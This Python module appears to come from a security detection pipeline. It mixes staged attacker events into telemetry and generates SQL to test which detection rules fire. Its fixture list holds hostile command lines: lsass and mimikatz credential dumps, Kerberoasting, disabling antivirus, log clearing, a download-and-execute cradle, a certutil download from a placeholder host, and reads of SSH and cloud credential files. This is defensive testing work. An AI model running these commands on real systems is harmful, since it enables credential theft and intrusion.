"""The shipped rules as a whole: detections over the telemetry, and over telemetry with staged attacker steps, with SQL for every rule."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, functions as F

from nightjar.operators import attack as M
from nightjar.operators import baselines as B
from nightjar.operators import rules as R
from nightjar.plans.adapter import telemetry
from nightjar.plans.queries_detect import _flat, _recursive_cooldown, _recursive_sequence, _recursive_threshold, condition_sql
from nightjar.plans.queries_reports import _CATALOG
from nightjar.plans.registry import CHECKS, PARTS, part, register, with_parts
from nightjar.plans.rulepack import RULES
from nightjar.schema import PHASES, seconds
from nightjar.sources.techniques import read_techniques

# One step per rule that the plain telemetry never shows; every fifth event becomes one of them, in turn.
STEPS: list[dict[str, str]] = [
    {"event_type": "process_access", "action": "remote_thread", "process_name": "mshta.exe"},
    {"event_type": "process_start", "process_name": "tool.exe", "command_line": "tool privilege::debug sekurlsa::logonpasswords"},
    {"event_type": "process_start", "process_name": "cmd.exe", "command_line": "procdump64 -ma lsass.exe out.dmp"},
    {"event_type": "process_start", "process_name": "powershell.exe", "command_line": "Invoke-Kerberoast -OutputFormat Hashcat"},
    {"event_type": "file_read", "file_path": "/home/ann/.aws/credentials"},
    {"event_type": "process_start", "process_name": "findstr.exe", "command_line": "findstr /si passw *.ini"},
    {"event_type": "process_start", "process_name": "powershell.exe", "command_line": "Set-MpPreference -DisableRealtimeMonitoring $true"},
    {"event_type": "process_start", "process_name": "wevtutil.exe", "command_line": "wevtutil cl Security"},
    {"event_type": "security_alert", "action": "audit_log_cleared"},
    {"event_type": "authentication", "action": "login_failure", "user": "svc-honey-3"},
    {"event_type": "authentication", "action": "login_success", "user": "svc-web", "privilege": "interactive"},
    {"event_type": "process_start", "process_name": "7z.exe", "command_line": "7z a -pX out.7z docs"},
    {"event_type": "file_create", "file_path": "/srv/share/HOW_TO_DECRYPT.html"},
    {"event_type": "file_read", "file_path": "/home/ann/.ssh/id_rsa"},
    {"event_type": "file_create", "process_name": "winword.exe", "file_path": "/users/ann/invoice.js"},
    {"event_type": "dns_query", "domain": "box7.duckdns.org"},
    {"event_type": "process_start", "process_name": "powershell.exe", "command_line": "IEX (New-Object Net.WebClient).DownloadString($u)"},
    {"event_type": "process_start", "process_name": "certutil.exe", "command_line": "certutil -urlcache -f http://files.example.com/a a"},
    {"event_type": "process_start", "process_name": "runner", "file_path": "/dev/shm/runner"},
    {"event_type": "process_start", "process_name": "pwsh.exe", "command_line": "pwsh -nop -exec bypass -w hidden -file a.ps1"},
    {"event_type": "process_start", "action": "script_block", "process_name": "powershell.exe", "command_line": "[Convert]::FromBase64String($x)"},
    {"event_type": "network_connection", "dst_ip": "10.1.2.3", "outcome": "refused"},
    {"event_type": "authentication", "action": "login_success", "user": "adm-7", "privilege": "network", "protocol": "ntlm"},
    {"event_type": "process_start", "parent_process_name": "fodhelper.exe", "process_name": "cmd.exe"},
    {"source": "linux", "event_type": "process_start", "process_name": "chmod", "command_line": "chmod u+s /bin/dash"},
    {"event_type": "service_started", "action": "installed", "file_path": "c:/programdata\\svc\\appdata.exe"},
    {"event_type": "registry_change", "action": "set_value", "file_path": "hkcu\\software\\microsoft\\windows\\currentversion\\run"},
    {"source": "linux", "event_type": "file_modify", "file_path": "/etc/cron.d/job"},
    {"event_type": "process_start", "process_name": "powershell.exe", "command_line": "Set-WmiInstance -Class CommandLineEventConsumer"},
]
EVERY = 5


def _staged(field: str, column: str) -> str:
    """The field of a staged event, as an expression that both engines evaluate."""
    arms = " ".join(f"WHEN {i} THEN '{s[field]}'" for i, s in enumerate(STEPS) if field in s)
    return f"CASE WHEN seq % {EVERY} = 0 THEN CASE CAST(floor(seq / {EVERY}) AS BIGINT) % {len(STEPS)} {arms} ELSE {column} END ELSE {column} END"


_FIELDS = list(dict.fromkeys(f for s in STEPS for f in s))


def staged_telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    spark_text = lambda sql: sql.replace("\\", "\\\\")  # noqa: E731 - Spark reads escapes inside literals
    return telemetry(spark, sf_dir).withColumns({f: F.expr(spark_text(_staged(f, f"`{f}`"))) for f in _FIELDS})


part("sev", "SELECT * REPLACE (" + ", ".join(f'{_staged(f, chr(34) + f + chr(34))} AS "{f}"' for f in _FIELDS) + ") FROM ev", "ev")
for _name, _sql in (("sip_num", PARTS["ip_num"][1]), ("sips", PARTS["ips"][1])):
    part(_name, _sql.replace("FROM ev ", "FROM sev ").replace("FROM ip_num", "FROM sip_num"), "sev" if _name == "sip_num" else "sip_num")
part("sevp", "SELECT sev.*, sips.is_private AS dst_private FROM sev LEFT JOIN sips ON sips.ip = sev.dst_ip", "sips")


# ------------------------------------------------------------------------------------------ SQL of a rule
def _then_sql(source: str, rule: str, window_us: int, need: int, gap_us: int) -> str:
    """A count that arms the rule and a later event that fires it; ``source`` yields gkey, tenant_id, ts_us, ord, event_id, w, t."""
    live = f"list_append(list_filter(k.win, lambda x: x.ts >= r.ts_us - {window_us}), {{'ts': r.ts_us, 'id': r.event_id}})"
    fires = f"(taken AND ts_us <= armed[1].ts + {window_us} AND (last_ts IS NULL OR ts_us - last_ts >= {gap_us}))"
    counts = f"(NOT taken AND w AND len(live) >= {need})"
    return f"""WITH RECURSIVE src AS ({source}), ranked AS (SELECT *, row_number() OVER (PARTITION BY gkey ORDER BY ts_us, ord) AS rn FROM src WHERE w OR t),
walk AS (
  SELECT gkey, CAST(0 AS BIGINT) AS rn, CAST([] AS STRUCT(ts BIGINT, id VARCHAR)[]) AS win, CAST(NULL AS STRUCT(ts BIGINT, id VARCHAR)[]) AS armed, CAST(NULL AS BIGINT) AS last_ts, CAST(NULL AS VARCHAR) AS evidence FROM ranked WHERE rn = 1
  UNION ALL
  SELECT gkey, rn, CASE WHEN {counts} THEN [] WHEN NOT taken AND w THEN live ELSE win END, CASE WHEN taken THEN NULL WHEN {counts} THEN live ELSE armed END,
    CASE WHEN {fires} THEN ts_us ELSE last_ts END, CASE WHEN {fires} THEN array_to_string([x.id for x in armed], ',') || ',' || event_id END
  FROM (SELECT r.gkey, r.rn, r.ts_us, r.event_id, r.w, k.win, k.armed, k.last_ts, {live} AS live, (k.armed IS NOT NULL AND r.t) AS taken FROM walk k JOIN ranked r ON r.gkey = k.gkey AND r.rn = k.rn + 1))
SELECT '{rule}' AS rule_id, tenant_id, ts_us, evidence FROM ranked JOIN walk USING (gkey, rn) WHERE evidence IS NOT NULL"""


def rule_sql(rule: R.RuleSpec, table: str) -> str:
    """Detections (rule_id, tenant_id, ts_us, evidence) of one rule over an event table that has ``dst_private``."""
    fields = [f'lower(CAST("{g}" AS VARCHAR))' for g in rule.group_by]
    escaped = [f"replace(replace({f}, '%', '%25'), '|', '%7C')" for f in fields]
    group = fields[0] if len(fields) == 1 else " || '|' || ".join(escaped)
    base = f"tenant_id || '|' || {group} AS gkey, tenant_id, ts_us, seq AS ord, event_id"
    holds = [condition_sql(c) if c else "true" for c in rule.conditions]
    window, gap = seconds(rule.window_seconds), seconds(rule.cooldown_seconds)
    if rule.kind == "match":
        source = f"SELECT tenant_id || '|' || coalesce(nullif({group}, ''), event_id) AS gkey, tenant_id, ts_us, seq AS ord, event_id FROM {table} WHERE {holds[0]}"
        return _recursive_cooldown(source, gap, f"'{rule.id}' AS rule_id, tenant_id, ts_us, event_id AS evidence")
    if rule.kind == "sequence":
        mask = " + ".join(f"CASE WHEN {h} THEN {1 << i} ELSE 0 END" for i, h in enumerate(holds))
        return _recursive_sequence(f"SELECT {base}, {mask} AS mask FROM {table} WHERE {group} IS NOT NULL", rule.id, window, gap, len(holds))
    if rule.then is not None:
        return _then_sql(f"SELECT {base}, {holds[0]} AS w, {holds[1]} AS t FROM {table} WHERE {group} IS NOT NULL", rule.id, window, rule.count_gte, gap)
    item = f'CAST("{rule.distinct}" AS VARCHAR)' if rule.distinct else "''"
    return _recursive_threshold(f"SELECT {base}, {item} AS item FROM {table} WHERE {group} IS NOT NULL AND {holds[0]}", rule.id, window, rule.count_gte, gap, bool(rule.distinct))


def pack_sql(table: str) -> str:
    return "\nUNION ALL ".join(f"SELECT * FROM ({rule_sql(r, table)})" for r in RULES)


CHECKS["rule_pack"] = with_parts(pack_sql("evp"), "evp")
_ANOMALIES = ["anomaly_login_hour", "anomaly_first_seen_location", "anomaly_egress_volume", "anomaly_rare_process", "anomaly_dns_entropy"]
_ANOMALY_ROWS = "\nUNION ALL ".join(f"SELECT rule_id FROM ({CHECKS[a]})" for a in _ANOMALIES)
_BURST = CHECKS["anomaly_dns_burst"].replace(str(seconds(2 * 86_400)), str(seconds(B.BURST_SECONDS))).replace(str(seconds(86_400) + 1), str(seconds(B.BURST_QUIET) + 1)).replace("lag(ts_us, 4)", f"lag(ts_us, {B.BURST_COUNT - 1})")
CHECKS["anomaly_detections"] = f"SELECT rule_id, count(*) AS fired FROM ({_ANOMALY_ROWS}\nUNION ALL SELECT rule_id FROM ({_BURST})) GROUP BY rule_id"
CHECKS["union_detections"] = f"SELECT rule_id, count(*) AS fired FROM (SELECT rule_id FROM ({CHECKS['rule_pack']})\nUNION ALL {_ANOMALY_ROWS}\nUNION ALL SELECT rule_id FROM ({_BURST})) GROUP BY rule_id"

register("rule_scan_staged", lambda s, d: R.hit_counts(R.scan_conditions(staged_telemetry(s, d), RULES), RULES), "\nUNION ALL ".join(
    f"SELECT '{r.id}' AS rule_id, count(*) FILTER ({' OR '.join(condition_sql(c) if c else 'true' for c in r.conditions)}) AS hits FROM sevp" for r in RULES), "sevp")
register("rule_pack_staged", lambda s, d: _flat(R.run_rules(staged_telemetry(s, d), RULES)), pack_sql("sevp"), "sevp")



# ------------------------------------------------------------------------------------------ what fired
def staged_detections(spark: SparkSession, sf_dir: str) -> DataFrame:
    return R.run_rules(staged_telemetry(spark, sf_dir), RULES)


def fired_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    """All shipped rules with the number of detections they raised."""
    return M.rule_catalog(R.rule_table(spark, RULES).select("rule_id", "title"), staged_detections(spark, sf_dir))


_TITLES = ", ".join(f"('{r.id}', '{r.title.replace(chr(39), chr(39) * 2)}')" for r in RULES)
register("rule_catalog_fired", fired_rules, f"""SELECT r.rule_id, r.title, count(p.rule_id) AS fired FROM (VALUES {_TITLES}) r(rule_id, title)
LEFT JOIN ({pack_sql('sevp')}) p ON p.rule_id = r.rule_id GROUP BY ALL""", "sevp")


def fired_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Catalogue techniques per tactic that rules with detections cover."""
    fired = staged_detections(spark, sf_dir).select("rule_id").distinct()
    return M.rule_coverage(M.rule_techniques(spark, RULES, {}).join(fired, "rule_id", "left_semi"), read_techniques(spark)).select("tactic", "total", "covered")


_RULE_TECHNIQUES = ", ".join(f"('{r.id}', '{t}')" for r in RULES for t in r.techniques)
register("rule_coverage_fired", fired_coverage, f"""
WITH cat AS (SELECT * FROM {_CATALOG}), t AS (SELECT DISTINCT technique FROM (VALUES {_RULE_TECHNIQUES}) r(rule_id, technique) WHERE rule_id IN (SELECT rule_id FROM ({pack_sql('sevp')}))),
c AS (SELECT DISTINCT CASE WHEN technique IN (SELECT technique_id FROM cat) THEN technique ELSE split_part(technique, '.', 1) END AS technique_id FROM t)
SELECT p.phase AS tactic, count(cat.technique_id) AS total, count(c.technique_id) AS covered FROM (SELECT unnest([{', '.join(repr(p) for p in PHASES)}]) AS phase) p
LEFT JOIN cat ON cat.tactic = p.phase LEFT JOIN c ON c.technique_id = cat.technique_id GROUP BY p.phase""", "sevp")
